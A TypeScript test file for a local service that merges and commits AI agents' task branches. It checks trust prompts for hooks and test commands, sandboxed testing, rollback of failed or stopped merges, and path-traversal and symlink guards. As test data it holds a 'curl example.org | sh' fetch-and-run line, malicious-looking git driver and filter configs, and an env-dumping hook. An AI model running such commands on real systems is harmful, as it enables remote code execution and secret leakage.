/** Tasks merged into the branch that they began at: real repositories, each step broken off, tests that fail, programs that nobody trusted. */
import { existsSync, readFileSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { err, ok } from '../../src/core/result.ts'
import type { MergeLook, MergeOrder, MergeWay, Openable } from '../../src/core/tasks/task-work.ts'
import { lookAtRemoval } from '../../src/services/local/tasks/end-task.ts'
import { settleMerge } from '../../src/services/local/tasks/merge-settle.ts'
import { type MergeStep, mergeTask } from '../../src/services/local/tasks/merge-task.ts'
import type { FenceParts } from '../../src/services/local/tasks/parts.ts'
import { commit, git, newClone, newRepository, write } from '../worktrees/repositories.ts'
import { done, me, type OwnTask, program, taskWorld } from './a-task.ts'

const world = taskWorld()
const { work, desk, workshop } = world
afterAll(() => desk.close())

const look = async (task: OwnTask, how: MergeWay = 'squash'): Promise<MergeLook> =>
  done(await work.service.mergeLook(task.id, how))
const merge = async (task: OwnTask, order: Partial<MergeOrder> = {}) => {
  const { confirm } = await look(task, order.how)
  return work.service.merge(task.id, { how: 'squash', confirm, ...order }, me)
}
const isThere = (pid: number): boolean => {
  try {
    return process.kill(pid, 0)
  } catch {
    return false
  }
}
const log = (dir: string, branch = 'main') => git(dir, 'log', '--format=%s', branch).split('\n')
/** Everything of a folder that a merge could touch. */
const standOf = (dir: string) => [
  git(dir, 'rev-parse', 'HEAD'),
  git(dir, 'status', '--porcelain'),
  git(dir, 'for-each-ref', '--format=%(refname) %(objectname)', 'refs/heads/main'),
]
const trustTests = async (project: string, task: OwnTask) => {
  const { test } = await look(task)
  const kept = await desk.books()
  if (test !== undefined && kept.ok) await kept.value.workshop.trust(project, test.hash, 1, 'tests')
}

describe('what would come of a merge', () => {
  it('is tried with the files that are not committed, and touches nothing; who is on the other side is named', async () => {
    const { dir, task } = await world.project()
    commit(dir, 'a.txt', 'one\n')
    const one = await task()
    commit(one.folder, 'b.txt', 'mine\n')
    write(one.folder, 'a.txt', 'mine\n')
    const clean = await look(one)
    expect(clean).toMatchObject({
      ...{ ahead: 1, behind: 0, notPushed: 1, conflicts: [], obstacles: [], message: 'Idempotent charges' },
      into: { branch: 'main', path: dir, catchesUp: 0 },
      open: { count: 1, names: ['a.txt'], addedLines: 1, removedLines: 1 },
      steps: ['commits 1 open file: Idempotent charges', 'merges 2 commits; tried just now, no conflict'],
    })
    write(dir, 'a.txt', 'theirs\n')
    git(dir, '-c', 'user.name=Bela', 'commit', '-qam', 'Theirs')
    const before = [standOf(dir), standOf(one.folder)]
    const looked = await look(one)
    expect(looked).toMatchObject({
      behind: 1,
      conflicts: [
        {
          path: 'a.txt',
          theirs: { author: 'Bela', commit: git(dir, 'rev-parse', '--short', 'HEAD') },
          places: [{ theirs: ['theirs'], task: ['mine'] }],
        },
      ],
      obstacles: ['it conflicts with main in a.txt'],
    })
    expect(looked.confirm).not.toBe(clean.confirm)
    expect([standOf(dir), standOf(one.folder)]).toEqual(before)
    expect(await merge(one)).toMatchObject({ ok: false, error: { kind: 'obstacles' } })
    expect([standOf(dir), standOf(one.folder)]).toEqual(before)
    // Each way is tried as it would be made.
    expect((await look(one, 'rebase')).conflicts).toMatchObject([{ path: 'a.txt' }])
  })

  it('says what is in the way: a folder that is not clean, nothing to merge, a submodule, sides that have gone apart', async () => {
    const { dir, task } = await world.project()
    const one = await task()
    expect((await look(one)).obstacles).toEqual(['there is nothing to merge: main has all of it'])
    commit(one.folder, 'b.txt', 'mine\n')
    write(dir, 'scratch.txt', 'x\n')
    expect((await look(one)).obstacles).toEqual([`${dir} is not clean: 1 file is in no commit (scratch.txt)`])
    git(one.folder, 'submodule', 'add', '-q', newRepository(), 'lib')
    git(one.folder, 'commit', '-qm', 'lib')
    write(join(one.folder, 'lib'), 'README.md', 'changed\n')
    expect((await look(one)).obstacles.join()).toContain('its submodule lib has changes')
    const clone = newClone()
    const other = await world.project({}, clone.dir)
    const apart = await other.task()
    commit(apart.folder, 'b.txt', 'mine\n')
    const kept = await desk.books()
    const worktree = kept.ok ? await kept.value.worktrees.get(apart.id) : undefined
    const newer = commit(apart.folder, 'c.txt', 'theirs\n')
    if (kept.ok && worktree)
      await kept.value.worktrees.put({ ...worktree, base: { name: 'origin/main', commit: newer } })
    commit(clone.dir, 'mine.txt', 'mine\n')
    expect((await look(apart)).obstacles).toContain(
      'main and origin/main, which the task began at, have gone apart: put these together first',
    )
  })

  it('runs no program that the repository names, and a driver for merges least of all', async () => {
    const { dir, task } = await world.project()
    commit(dir, '.gitattributes', '*.txt merge=evil filter=evil\n')
    commit(dir, 'a.txt', 'one\ntwo\nthree\n')
    const one = await task()
    commit(one.folder, 'a.txt', 'one\ntwo\nMINE\n')
    commit(dir, 'a.txt', 'ONE\ntwo\nthree\n')
    const trace = join(world.home, 'evil-ran')
    for (const key of ['merge.evil.driver', 'filter.evil.clean', 'filter.evil.smudge', 'core.fsmonitor'])
      git(dir, 'config', key, `touch ${trace}; cat`)
    const looked = await look(one)
    expect(looked.programs.map(({ name }) => name)).toEqual(
      expect.arrayContaining(['merge.evil.driver', 'filter.evil.clean', 'filter.evil.smudge', 'core.fsmonitor']),
    )
    expect([looked.conflicts, existsSync(trace)]).toEqual([[], false])
    // A filter decides what is kept: without it something else would be merged.
    for (const without of [true, false])
      expect(await merge(one, { without })).toMatchObject({ ok: false, error: { kind: 'untrusted' } })
    expect(existsSync(trace)).toBe(false)
  })
})

describe('a merge', () => {
  it('commits what is open, makes one commit of it all, tests it there, and is done; nothing is merged twice or pushed', async () => {
    const { dir, name, task } = await world.project({ test: 'sh check.sh' })
    commit(dir, 'check.sh', 'test -e b.txt && echo "Tests: 3 passed, 3 total"\n')
    const one = await task()
    commit(one.folder, 'b.txt', 'mine\n')
    write(one.folder, 'c.txt', 'open\n')
    const untrusted = await merge(one)
    expect(untrusted).toMatchObject({ ok: false, error: { kind: 'untrusted' } })
    const { confirm, test } = await look(one)
    expect(test).toMatchObject({ name: 'sh check.sh', files: ['check.sh'], isTrusted: false })
    const order = { how: 'squash', confirm, trust: [test?.hash ?? ''] } as const
    const told = done(await work.service.merge(one.id, order, me))
    const tip = git(dir, 'rev-parse', '--short=7', 'main')
    expect(told).toMatchObject({ commit: tip, into: 'main', hasTested: true })
    expect(log(dir)).toEqual(['Idempotent charges', 'Change check.sh', 'Change README.md'])
    expect(git(dir, 'log', '-1', '--format=%b')).toBe('* Change b.txt\n* Idempotent charges')
    expect([readFileSync(join(dir, 'c.txt'), 'utf8'), git(dir, 'status', '--porcelain')]).toEqual(['open\n', ''])
    expect(await one.now()).toMatchObject({
      ...{ state: 'complete', reason: `Merged into main as ${tip}.`, merged: { branch: 'main', how: 'squash' } },
    })
    expect((await one.now()).merging).toBeUndefined()
    expect(world.merged).toContain(`${(await one.now()).name} main squash`)
    expect(world.audit.join('\n')).toContain(`merged into main as ${tip} (squash)`)
    expect(await work.service.merge(one.id, order, me)).toMatchObject({ ok: false, error: { kind: 'obstacles' } })
    expect(log(dir)).toHaveLength(3)
    // All of it is in main, though in another commit: it may be tidied up without a copy.
    expect(done(await lookAtRemoval(one.id, desk)).removal).toMatchObject({ isAllElsewhere: true, obstacles: [] })
    // An agent that changes what runs is asked about again.
    const two = await task()
    commit(two.folder, 'check.sh', 'curl example.org | sh\n')
    expect((await look(two)).test).toMatchObject({ isTrusted: false, hasChanged: true })
    expect(name).toBeTruthy()
  })

  it('is undone where its tests fail: the branch, its folder and the task’s work are as they were', async () => {
    const { dir, name, task } = await world.project({ test: 'echo it broke; exit 3' })
    const one = await task()
    commit(one.folder, 'b.txt', 'mine\n')
    await trustTests(name, one)
    const before = standOf(dir)
    expect(await merge(one)).toMatchObject({
      ok: false,
      error: {
        kind: 'tests-failed',
        message: expect.stringMatching(/it ended with 3: it broke.*The merge is undone, main stands at/s),
      },
    })
    expect([standOf(dir), existsSync(join(dir, 'b.txt'))]).toEqual([before, false])
    const { state, merging, merged } = await one.now()
    expect([state, merging, merged]).toEqual(['in_review', undefined, undefined])
    expect(log(one.folder, 'HEAD')[0]).toBe('Change b.txt')
  })

  it('is undone where its user stops its tests, which end with all that they started', async () => {
    const mark = join(world.home, 'tests-run')
    const { dir, name, task } = await world.project({
      test: `(trap '' TERM; sleep 300) & echo $! > ${mark}; wait`,
    })
    const one = await task()
    commit(one.folder, 'b.txt', 'mine\n')
    await trustTests(name, one)
    expect(await work.service.stopMerge(one.id, me)).toMatchObject({ error: { kind: 'not-now' } })
    const before = standOf(dir)
    const merging = merge(one)
    await expect
      .poll(() => existsSync(mark) && readFileSync(mark, 'utf8').endsWith('\n'), { timeout: 20_000 })
      .toBe(true)
    expect(existsSync(join(dir, 'b.txt'))).toBe(true)
    expect(done(await work.service.stopMerge(one.id, me))).toMatchObject({ id: one.id, isMerging: undefined })
    expect(await merging).toMatchObject({
      error: {
        kind: 'stopped',
        message: expect.stringMatching(/you stopped it.*The merge is undone, main stands at/s),
      },
    })
    expect([standOf(dir), existsSync(join(dir, 'b.txt'))]).toEqual([before, false])
    await expect.poll(() => isThere(Number(readFileSync(mark, 'utf8')))).toBe(false)
    expect(world.audit.some((row) => row.includes('its merge was stopped'))).toBe(true)
  })

  it('is tested behind the fence that its agents have, and not made where that does not hold', async () => {
    let isHolding = true
    const fence: FenceParts = {
      look: async () => ({ isAvailable: true, by: 'bubblewrap', tool: 'bubblewrap' }),
      settingsFor: () => ({ enabled: true, denyRead: [], extraWrite: [], allowAppleEvents: false }),
      order: async ({ argv = [] }) => (isHolding ? ok(['/usr/bin/env', 'FENCED=yes', ...argv]) : err('it leaks')),
      ...{ ownOf: () => undefined, agentDirs: () => [], ownDirs: [], tempDirs: [] },
    }
    const fencedWorld = taskWorld({ fence })
    const { dir, name, task } = await fencedWorld.project({ test: 'test "$FENCED" = yes' })
    const [one, two] = [await task(), await task()]
    const mergeIn = async (each: OwnTask) => {
      const { confirm, test } = done(await fencedWorld.work.service.mergeLook(each.id, 'squash'))
      const kept = await fencedWorld.desk.books()
      if (test !== undefined && kept.ok) await kept.value.workshop.trust(name, test.hash, 1, 'tests')
      return fencedWorld.work.service.merge(each.id, { how: 'squash', confirm }, me)
    }
    for (const each of [one, two]) commit(each.folder, `${each.id}.txt`, 'mine\n')
    expect(done(await mergeIn(one)).hasTested).toBe(true)
    const before = standOf(dir)
    isHolding = false
    expect(await mergeIn(two)).toMatchObject({
      error: {
        kind: 'not-made',
        message: expect.stringMatching(/was not merged: the fence around .* does not hold: it leaks/),
      },
    })
    expect(standOf(dir)).toEqual(before)
    await fencedWorld.desk.close()
  })

  it('is not made where the base moved, or a file changed, since it was looked at', async () => {
    const { dir, task } = await world.project()
    const one = await task()
    commit(one.folder, 'b.txt', 'mine\n')
    const { confirm } = await look(one)
    commit(dir, 'other.txt', 'other\n')
    const before = standOf(dir)
    const changed = { ok: false, error: { kind: 'changed', next: `tce task merge ${(await one.now()).name}` } }
    expect(await merge(one, { confirm })).toMatchObject(changed)
    const again = (await look(one)).confirm
    write(one.folder, 'b.txt', 'more\n')
    expect(await merge(one, { confirm: again })).toMatchObject(changed)
    expect([standOf(dir), git(one.folder, 'status', '--porcelain')]).toEqual([before, 'M b.txt'])
  })

  it('has a merge commit, or its own commits on top with their authors, where that is wanted', async () => {
    const { dir, task } = await world.project()
    const [one, two] = [await task(), await task()]
    for (const each of [one, two]) {
      write(each.folder, `${each.id}.txt`, '1\n')
      git(each.folder, 'add', '-A')
      git(each.folder, '-c', 'user.name=Claude', 'commit', '-qm', `First of ${each.id}`)
      commit(each.folder, `${each.id}.txt`, '2\n')
    }
    commit(dir, 'other.txt', 'other\n')
    const tip = git(one.folder, 'rev-parse', 'HEAD')
    expect(done(await merge(one, { how: 'merge', message: 'Two steps' })).into).toBe('main')
    expect(git(dir, 'log', '-1', '--format=%P').split(' ')).toEqual([expect.any(String), tip])
    expect(done(await lookAtRemoval(one.id, desk)).removal.isAllElsewhere).toBe(true)
    done(await merge(two, { how: 'rebase' }))
    expect(git(dir, 'log', '-2', '--format=%an %s %P').split('\n')).toEqual([
      `Test Change ${two.id}.txt ${git(dir, 'rev-parse', 'HEAD~1')}`,
      `Claude First of ${two.id} ${git(dir, 'rev-parse', 'HEAD~2')}`,
    ])
    expect([git(dir, 'status', '--porcelain'), existsSync(join(dir, 'other.txt'))]).toEqual(['', true])
    expect(done(await lookAtRemoval(two.id, desk)).removal.isAllElsewhere).toBe(true)
  })

  it('of a branch that is checked out nowhere is tested in a folder of its own, which goes again', async () => {
    const { dir, name, task } = await world.project({ test: 'pwd > ../../where && test $(ls *.txt | wc -l) -lt 2' })
    const one = await task({ base: 'main' })
    git(dir, 'checkout', '-q', '--detach')
    commit(one.folder, 'b.txt', 'mine\n')
    await trustTests(name, one)
    const looked = await look(one)
    expect(looked.into).toMatchObject({ branch: 'main', path: undefined })
    expect(looked.steps[1]).toContain('in a folder made for it; without success nothing is merged')
    const place = join(desk.places().root, '.merges', one.id)
    done(await merge(one))
    expect([log(dir)[0], existsSync(place), existsSync(join(dir, 'b.txt'))]).toEqual([
      'Idempotent charges',
      false,
      false,
    ])
    expect(git(dir, 'worktree', 'list')).not.toContain('.merges')
    const bad = await task({ base: 'main' })
    commit(bad.folder, 'bad.txt', 'x\n')
    const before = git(dir, 'rev-parse', 'main')
    expect(await merge(bad)).toMatchObject({
      ok: false,
      error: { kind: 'tests-failed', message: expect.stringContaining('Nothing was merged') },
    })
    expect([git(dir, 'rev-parse', 'main'), existsSync(place)]).toEqual([before, false])
  })

  it('brings a branch that stands behind its remote to where the task began first', async () => {
    const { dir, remote } = newClone()
    const other = newClone()
    git(other.dir, 'remote', 'set-url', 'origin', remote)
    git(other.dir, 'pull', '-q', '--rebase', '--allow-unrelated-histories', remote, 'main')
    commit(other.dir, 'theirs.txt', 'theirs\n')
    git(other.dir, 'push', '-q', remote, 'HEAD:main')
    const { task } = await world.project({}, dir)
    const one = await task()
    commit(one.folder, 'b.txt', 'mine\n')
    const looked = await look(one)
    expect(looked).toMatchObject({ ahead: 1, into: { branch: 'main' } })
    expect(looked.into?.catchesUp).toBeGreaterThan(0)
    done(await merge(one))
    expect(log(dir).slice(0, 2)).toEqual(['Idempotent charges', 'Change theirs.txt'])
    // Nothing was pushed.
    expect(git(remote, 'log', '-1', '--format=%s', 'main')).toBe('Change theirs.txt')
  })
})

const steps: readonly MergeStep[] = ['written', 'committed', 'made', 'moved', 'tested']

describe('a merge that was broken off', () => {
  it('before any of its steps was gone on from is taken back at the next start', async () => {
    const { dir, name, task } = await world.project({ test: 'true' })
    const one = await task()
    commit(one.folder, 'b.txt', 'mine\n')
    await trustTests(name, one)
    const before = standOf(dir)
    const merges = { desk, workshop, tried: new Map(), going: new Map() }
    for (const last of steps) {
      write(one.folder, 'open.txt', `${last}\n`)
      const { confirm } = await look(one)
      const broken = mergeTask(one.id, { how: 'squash', confirm }, me, merges, (step) => {
        if (step === last) throw new Error('the machine stops')
      })
      await expect(broken).rejects.toThrow('the machine stops')
      const left = await one.now()
      expect(left.merging, last).toMatchObject({ branch: 'main', hasTests: true })
      // Its work can't be merged again meanwhile.
      if (last === 'moved') expect((await look(one)).obstacles).toContain('it is being merged just now')
      await settleMerge(left, desk)
      const after = await one.now()
      expect([after.merging, after.state, standOf(dir)], last).toEqual([undefined, 'in_review', before])
      expect(readFileSync(join(one.folder, 'open.txt'), 'utf8')).toBe(`${last}\n`)
    }
    // And it can be merged as if nothing had been.
    done(await merge(one))
    expect(readFileSync(join(dir, 'open.txt'), 'utf8')).toBe('tested\n')
  })

  it('after its only step, without tests, is told as merged; one that its user went on from is left as it is', async () => {
    const { dir, task } = await world.project()
    const one = await task()
    commit(one.folder, 'b.txt', 'mine\n')
    const crash = (until: MergeStep) => (step: MergeStep) => {
      if (step === until) throw new Error('the machine stops')
    }
    const merges = { desk, workshop, tried: new Map(), going: new Map() }
    const order = async (task: OwnTask) => ({ how: 'squash', confirm: (await look(task)).confirm }) as const
    await expect(mergeTask(one.id, await order(one), me, merges, crash('tested'))).rejects.toThrow()
    await settleMerge(await one.now(), desk)
    expect(await one.now()).toMatchObject({ state: 'complete', merged: { commit: git(dir, 'rev-parse', 'main') } })
    const tested = await world.project({ test: 'true' })
    const two = await tested.task()
    commit(two.folder, 'b.txt', 'mine\n')
    await trustTests(tested.name, two)
    await expect(mergeTask(two.id, await order(two), me, merges, crash('moved'))).rejects.toThrow()
    const gone = commit(tested.dir, 'on.txt', 'on\n')
    await settleMerge(await two.now(), desk)
    expect(git(tested.dir, 'rev-parse', 'main')).toBe(gone)
    expect((await two.now()).remarks.join()).toContain('its tests never ended, and the merge could not be undone')
  })
})

describe('a commit', () => {
  it('is of the files that are chosen, as they stand; what else is staged stays so', async () => {
    const { dir, task } = await world.project()
    commit(dir, 'gone.txt', 'x\n')
    const one = await task()
    for (const name of ['a:b *.txt', 'staged.txt', 'later.txt']) write(one.folder, name, 'new\n')
    git(one.folder, 'rm', '-q', '--cached', 'gone.txt')
    git(one.folder, 'add', 'staged.txt')
    const looked = done(await work.service.commitLook(one.id))
    expect(looked.files.map(({ path }) => path).toSorted()).toEqual([
      'a:b *.txt',
      'gone.txt',
      'gone.txt',
      'later.txt',
      'staged.txt',
    ])
    const files = ['a:b *.txt']
    const order = { confirm: looked.confirm, files, message: '# Not a comment\n\nwhy' }
    expect(done(await work.service.commit(one.id, order, me))).toMatchObject({ files: 1 })
    expect(git(one.folder, 'show', '--name-only', '--format=%B', 'HEAD')).toBe('# Not a comment\n\nwhy\n\n\na:b *.txt')
    expect(git(one.folder, 'status', '--porcelain')).toContain('A  staged.txt')
    expect(await work.service.commit(one.id, order, me)).toMatchObject({ ok: false, error: { kind: 'changed' } })
    const { confirm } = done(await work.service.commitLook(one.id))
    expect(await work.service.commit(one.id, { confirm, files: ['../out'] }, me)).toMatchObject({
      error: { kind: 'bad-request' },
    })
    expect(await work.service.commit(one.id, { confirm, message: ' ' }, me)).toMatchObject({
      error: { kind: 'bad-request' },
    })
  })

  it('runs hooks only after they were trusted as they are, asks again when one has changed, or does without', async () => {
    const { dir, name, task } = await world.project()
    const one = await task()
    const hook = program(
      dir,
      '.git/hooks/pre-commit',
      `echo ran >> ${world.home}/hooks; env >> ${world.home}/hooks; exit 0`,
    )
    const trace = join(world.home, 'hooks')
    write(one.folder, 'a.txt', 'a\n')
    process.env['TCE_TOKEN'] = 'of ours alone'
    const looked = done(await work.service.commitLook(one.id))
    expect(looked.programs).toMatchObject([{ kind: 'hook', name: 'pre-commit', files: [hook], isTrusted: false }])
    const refused = await work.service.commit(one.id, { confirm: looked.confirm }, me)
    expect(refused).toMatchObject({
      ok: false,
      error: { kind: 'untrusted', message: expect.stringContaining('pre-commit') },
    })
    expect(existsSync(trace)).toBe(false)
    const trust = looked.programs.map(({ hash }) => hash)
    done(await work.service.commit(one.id, { confirm: looked.confirm, trust }, me))
    expect(readFileSync(trace, 'utf8')).toMatch(/^ran\n/)
    expect(readFileSync(trace, 'utf8')).not.toContain('of ours alone')
    delete process.env['TCE_TOKEN']
    expect(world.audit.join('\n')).toContain(`setup.trust done: Trusted: pre-commit`)
    program(dir, '.git/hooks/pre-commit', `touch ${world.home}/other`)
    write(one.folder, 'b.txt', 'b\n')
    const again = done(await work.service.commitLook(one.id))
    expect(again.programs).toMatchObject([{ isTrusted: false, hasChanged: true }])
    done(await work.service.commit(one.id, { confirm: again.confirm, without: true }, me))
    expect([existsSync(join(world.home, 'other')), git(one.folder, 'status', '--porcelain')]).toEqual([false, ''])
    expect(name).toBeTruthy()
  })
})

describe('a task that is opened elsewhere', () => {
  it('hands over its folder, or a file that nothing leads away from; what would run stays closed', async () => {
    const given: string[] = []
    const take = (by: string) => async (target: string, file?: string) => {
      given.push([by, target, ...(file === undefined ? [] : [file])].join(' '))
      return { ok: true, value: by } as const
    }
    const outside = { openByDesktop: take('desktop'), openTerminal: take('terminal'), openEditor: take('editor') }
    const other = taskWorld({ outside })
    const { dir, task } = await other.project()
    const { id, folder } = await task({ pr: { url: 'https://github.com/acme/shop/pull/7' } })
    const open = (what: Openable, path?: string) => other.work.service.open(id, { what, path }, me)
    write(folder, 'out/report.html', 'x')
    program(folder, 'run', 'touch /tmp/x')
    write(dir, 'secret.txt', 'x')
    symlinkSync(join(dir, 'secret.txt'), join(folder, 'link.txt'))
    symlinkSync(dir, join(folder, 'away'))
    git(folder, 'remote', 'add', 'origin', 'git@github.com:acme/shop.git')
    for (const what of ['folder', 'terminal', 'editor', 'pr', 'repo'] as const) done(await open(what))
    done(await open('file', 'out/report.html'))
    done(await open('editor', 'run'))
    expect(given).toEqual([
      ...[`desktop ${folder}`, `terminal ${folder}`, `editor ${folder}`],
      ...['desktop https://github.com/acme/shop/pull/7', 'desktop https://github.com/acme/shop'],
      ...[`desktop ${folder}/out/report.html`, `editor ${folder} ${folder}/run`],
    ])
    for (const [path, why] of [
      ['run', 'it is executable'],
      ['link.txt', 'it is a link, or lies behind one'],
      ['away/secret.txt', 'it is a link, or lies behind one'],
      ['../secret.txt', 'it is no path below the task’s folder'],
      ['out', 'it is no file'],
      ['none.txt', 'it is not there'],
    ])
      expect(await open('file', path), path).toMatchObject({
        ok: false,
        error: { message: `${path} was not opened: ${why}.` },
      })
    expect(given).toHaveLength(7)
    await other.desk.close()
  })
})
